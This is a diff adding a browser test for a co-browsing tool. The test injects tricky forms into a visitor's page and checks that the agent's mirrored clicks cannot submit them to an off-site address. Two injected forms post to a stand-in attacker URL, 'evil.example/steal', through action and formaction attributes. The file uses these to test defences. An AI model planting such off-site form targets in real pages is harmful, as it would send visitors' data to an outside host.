@@ -281,3 +281,42 @@ test("control taken back while the chat connection is down stays taken back: the
   assert.equal(await widget(visitor, "control-indicator").count(), 0, "control did not come back on the visitor's page");
   assertNoProblems(stack);
 });
+
+test("forms that would leave the page are refused however they are reached: a button inside a label, a field named action, Enter through the default button", { timeout: 150000 }, async () => {
+  const { agent, visitor } = await coBrowse("/demo/transfer", "tricky forms");
+  await visitor.evaluate(() => {
+    const w = /** @type {any} */ (window);
+    w.__submitted = [];
+    const box = document.createElement("div");
+    box.innerHTML = `
+      <form id="agree-form" action="/demo/transfer"><label id="agree"><input type="checkbox" id="agree-box"> I agree <button id="label-btn" formaction="https://evil.example/steal">Send</button></label></form>
+      <form id="shadowed" action="https://evil.example/steal"><input type="hidden" name="action" value="x"><button id="shadowed-btn">Go</button></form>
+      <form id="enter-form" action="https://evil.example/steal"><input id="enter-field" data-sightline-visible><button id="enter-default" formaction="/demo/transfer">Search</button></form>`;
+    document.querySelector(".page-head .container").append(box);
+    for (const f of Array.from(document.forms)) {
+      f.addEventListener("submit", (ev) => {
+        ev.preventDefault();
+        w.__submitted.push(`${f.id}:${/** @type {any} */ (ev).submitter?.id ?? ""}`);
+      });
+    }
+  });
+  await waitFor(async () => (await inMirror(agent, "#enter-field")) !== null, "the forms in the mirror");
+  await takeControl(agent, visitor);
+  const toast = async () => (await agent.locator("[data-testid=toast]").textContent()) ?? "";
+  for (const id of ["#label-btn", "#shadowed-btn"]) {
+    await agent.evaluate(() => {
+      const t = document.querySelector("[data-testid=toast]");
+      if (t) t.textContent = "";
+    });
+    await clickInMirror(agent, id);
+    await waitFor(async () => /would leave the page/.test(await toast()), `${id} refused`);
+  }
+  // Enter in a field: the form goes through its default button, whose own address is this site's.
+  await clickInMirror(agent, "#enter-field");
+  await waitFor(async () => (await activeId(visitor)) === "enter-field", "the field focused");
+  await agent.keyboard.type("loans");
+  await agent.keyboard.press("Enter");
+  await waitFor(async () => (await visitor.evaluate(() => /** @type {any} */ (window).__submitted.length)) === 1, "one submission");
+  assert.deepEqual(await visitor.evaluate(() => /** @type {any} */ (window).__submitted), ["enter-form:enter-default"], "only the one through the default button, none of the refused ones");
+  assertNoProblems(stack);
+});
